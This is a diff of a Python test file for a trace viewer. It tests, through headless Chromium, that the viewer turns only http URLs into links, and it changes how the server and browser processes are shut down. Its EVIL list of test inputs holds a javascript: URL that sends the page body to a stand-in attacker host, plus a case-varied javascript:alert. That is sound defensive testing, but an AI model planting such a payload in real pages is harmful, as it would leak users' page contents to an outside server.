@@ -4,6 +4,7 @@ import http.client
 import os
 import re
 import shutil
+import signal
 import subprocess
 import tempfile
 from html.parser import HTMLParser
@@ -13,6 +14,7 @@ import pytest
 from agenthub.tracer import save_trace
 from agenthub.apps import viewer as viewer_module
 from agenthub.apps.viewer import PAGE, serve_in_thread
+from sse_server import close_server, track_connections
 
 BROWSERS = ("/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome")
 EVIL = ["javascript:fetch('https://evil.example/?'+document.body.innerHTML)", "JaVaScRiPt:alert(1)",
@@ -31,9 +33,9 @@ HISTORY = [
 def viewer(tmp_path):
     save_trace("evil", "demo-model", HISTORY, {}, root=str(tmp_path))
     server, url = serve_in_thread(str(tmp_path))
+    connections = track_connections(server)  # (a browser's connections end with the viewer)
     yield server
-    server.shutdown()
-    server.server_close()
+    close_server(server, connections)
 
 
 def _get(server, host, path="/"):
@@ -100,14 +102,22 @@ def test_a_browser_makes_links_of_http_urls_only(viewer):
         pytest.skip("no Chromium installed")
     url = "http://127.0.0.1:{}/trace/evil".format(viewer.server_address[1])
     profile = tempfile.mkdtemp(prefix="agenthub-chromium-")
+    process = subprocess.Popen([browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
+                                "--disable-background-networking", "--disable-dev-shm-usage",
+                                "--user-data-dir=" + profile, "--virtual-time-budget=5000", "--dump-dom", url],
+                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
     try:
-        result = subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
-                                 "--disable-background-networking", "--disable-dev-shm-usage",
-                                 "--user-data-dir=" + profile, "--virtual-time-budget=5000", "--dump-dom", url],
-                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120)
+        out, _ = process.communicate(timeout=120)
     finally:
+        try:  # its helper processes outlive it: the whole group ends with it
+            os.killpg(process.pid, signal.SIGKILL)
+        except OSError:  # none left
+            pass
+        if process.poll() is None:  # (timed out)
+            process.kill()
+            process.communicate()
         shutil.rmtree(profile, ignore_errors=True)
-    dom = result.stdout.decode("utf-8")
+    dom = out.decode("utf-8")
     assert "Assistant" in dom  # the page's script ran under the CSP
     links = _Links()
     links.feed(dom)
